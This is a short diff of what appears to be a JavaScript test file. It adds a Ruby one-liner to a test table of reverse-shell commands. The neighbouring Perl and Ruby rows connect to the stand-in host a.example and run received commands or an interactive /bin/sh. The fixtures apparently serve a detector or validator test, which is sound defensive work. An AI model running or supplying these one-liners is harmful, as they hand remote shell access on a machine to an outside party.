@@ -180,6 +180,7 @@ describe('names that are put together or given again', () => {
 describe('what a program has in its hands when it speaks to another machine', () => {
   test.each([
     ['perl -e', '$c=new IO::Socket::INET(PeerAddr,"a.example:1");system$_ while<$c>'],
+    ['ruby -e', 'c=TCPSocket.new("a.example",1);while(l=c.gets);IO.popen(l,"r"){|o|c.print o.read}end'],
     ['ruby -e', 'f=TCPSocket.open("a.example",1).to_i;exec sprintf("/bin/sh -i <&%d",f)'],
     [
       'node -e',
